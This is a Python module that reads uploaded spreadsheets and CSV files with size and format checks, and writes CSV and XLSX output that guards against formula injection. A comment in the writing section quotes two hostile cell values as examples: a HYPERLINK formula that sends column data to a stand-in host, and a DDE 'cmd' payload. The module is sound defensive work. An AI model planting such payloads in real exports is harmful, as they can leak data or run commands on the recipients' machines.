"""Reading spreadsheets as people send them: XLSX/XLS/ODS through python-calamine (the fastest reader measured,
see ARCHITECTURE.md), CSV through the csv module (encoding and delimiter guessed). Shared by the statement and
the registry importers. And writing one: `xlsx_bytes` (openpyxl's write-only workbook, row by row)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

from phocap.core import sheetsize
from phocap.core.errors import ValidationFailed
from phocap.core.uploads import check_size


def read_rows(data: bytes, filename: str) -> list[list[Any]]:
    """All rows of the first sheet (XLSX/XLS/ODS through python-calamine) or of a CSV file — once the file has
    been found within the upload limit and its sheet within `sheetsize.MAX_CELLS` (measured before any reader
    builds it, so a hostile file is refused in milliseconds)."""
    check_size(len(data), filename)
    if not data.strip():
        raise ValidationFailed(f"Tệp {filename} rỗng: không có dòng nào.")
    suffix = Path(filename).suffix.lower()
    if suffix not in (".xlsx", ".xls", ".xlsm", ".ods", ".csv", ".txt"):  # no usable name: look at the bytes
        suffix = {b"PK\x03\x04": ".xlsx", b"\xd0\xcf\x11\xe0": ".xls"}.get(data[:4], ".csv")
    if suffix in (".xlsx", ".xls", ".xlsm", ".ods"):
        unreadable = ValidationFailed(
            f"Không đọc được tệp {filename}: tệp bị hỏng hoặc không phải bảng tính Excel/ODS. Hãy mở tệp bằng "
            "Excel hoặc LibreOffice, lưu lại dạng .xlsx rồi tải lên lại.",
            code="unreadable",
        )
        try:
            sheetsize.check(data, _kind(data, suffix))
        except ValidationFailed as exc:
            if exc.code == "unreadable":
                raise unreadable from None
            raise
        from python_calamine import CalamineWorkbook

        try:
            book = CalamineWorkbook.from_filelike(io.BytesIO(data))
            return [list(r) for r in book.get_sheet_by_index(0).to_python(skip_empty_area=False)]
        except Exception:  # calamine raises its own error types (in English) for damaged files
            raise unreadable from None
    if data.startswith(NOT_SPREADSHEETS):  # a picture, a PDF, an archive… sent as a list: not read as CSV text
        raise ValidationFailed(f"Tệp {filename} không phải bảng tính (XLSX, XLS, ODS hoặc CSV).")
    text = _decode(data)
    try:
        rows = [list(r) for r in csv.reader(io.StringIO(text, newline=""), delimiter=_delimiter(text))]
    except csv.Error as exc:
        raise ValidationFailed(f"Không đọc được tệp CSV {filename}: {exc}.") from None
    if len(rows) * max(map(len, rows), default=0) > sheetsize.MAX_CELLS:  # the rectangle its readers pad it to
        raise ValidationFailed("Tệp CSV quá lớn: số dòng × số cột vượt giới hạn. Hãy chia tệp rồi tải lên lại.")
    return rows


# how files that are surely not a spreadsheet begin: PNG, JPEG, GIF, PDF, gzip, 7-Zip, RAR, ELF
NOT_SPREADSHEETS = (b"\x89PNG", b"\xff\xd8\xff", b"GIF8", b"%PDF", b"\x1f\x8b", b"7z\xbc\xaf", b"Rar!", b"\x7fELF")


def _kind(data: bytes, suffix: str) -> str:
    """What the bytes are, whatever the name says: calamine looks at the bytes too (an .xls that is a zip)."""
    if data[:4] == b"\xd0\xcf\x11\xe0":
        return ".xls"
    if data[:4] == b"PK\x03\x04":
        return ".ods" if b"application/vnd.oasis.opendocument" in data[:200] else ".xlsx"
    return suffix


def _delimiter(text: str) -> str:
    """The separator most table rows use (title rows above the table have none): `,` `;` or tab."""
    lines = [line for line in text.splitlines()[:200] if line.strip()]
    return max((",", ";", "\t"), key=lambda d: sum(1 for line in lines if line.count(d) >= 2))


def _decode(data: bytes) -> str:
    for encoding in ("utf-8-sig", "utf-16", "cp1258"):
        try:
            return data.decode(encoding)
        except UnicodeDecodeError:
            continue
    raise ValidationFailed("Không nhận ra bảng mã của tệp CSV (hãy lưu dạng UTF-8).")


# --- writing: files that cannot execute ---------------------------------------------------------------------
#
# A name typed as `=HYPERLINK("http://x/?"&B:B,"Xem")` or `+cmd|' /C calc'!A0` must reach a spreadsheet as the
# text it is. Every CSV and XLSX phocap writes goes through these helpers: XLSX cells holding text are string
# cells, never formulas (openpyxl turns any text starting with `=` into a formula unless told otherwise); CSV text
# that a spreadsheet program would run gets a leading apostrophe (OWASP's advice for CSV injection).

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


class _Echo:
    def write(self, text: str) -> str:
        return text


_CSV = csv.writer(_Echo())


def csv_line(row: Iterable[Any]) -> str:
    """One CSV line (with its line end), each text cell made safe."""
    return str(_CSV.writerow([csv_safe(v) for v in row]))


def csv_bytes(rows: Iterable[Iterable[Any]], *, bom: bool = True) -> bytes:
    """A whole CSV file in UTF-8; `bom`: a byte-order mark first, so spreadsheet programs read it as UTF-8."""
    return ("\ufeff" if bom else "").encode() + "".join(csv_line(row) for row in rows).encode("utf-8")


def as_text(cell: Any) -> Any:
    """An openpyxl cell holding text is a string cell, whatever the text starts with."""
    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
        cell.data_type = "s"
    return cell


def xlsx_bytes(rows: Iterable[Iterable[Any]], *, sheet: str = "Sheet1") -> bytes:
    """An XLSX file of one sheet holding the rows, written row by row (memory stays flat for long lists)."""
    return xlsx_book({sheet: rows})


def xlsx_book(sheets: Mapping[str, Iterable[Iterable[Any]]]) -> bytes:
    """An XLSX file of several sheets (name → rows), each written row by row."""
    from openpyxl import Workbook  # only when a workbook is written, as calamine only when one is read
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    for sheet, rows in sheets.items():
        out_sheet = book.create_sheet(sheet[:31])
        for row in rows:
            out_sheet.append(
                [
                    as_text(WriteOnlyCell(out_sheet, value=v))
                    if isinstance(v, str) and v.startswith(FORMULA_STARTS)
                    else v
                    for v in row
                ]
            )
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
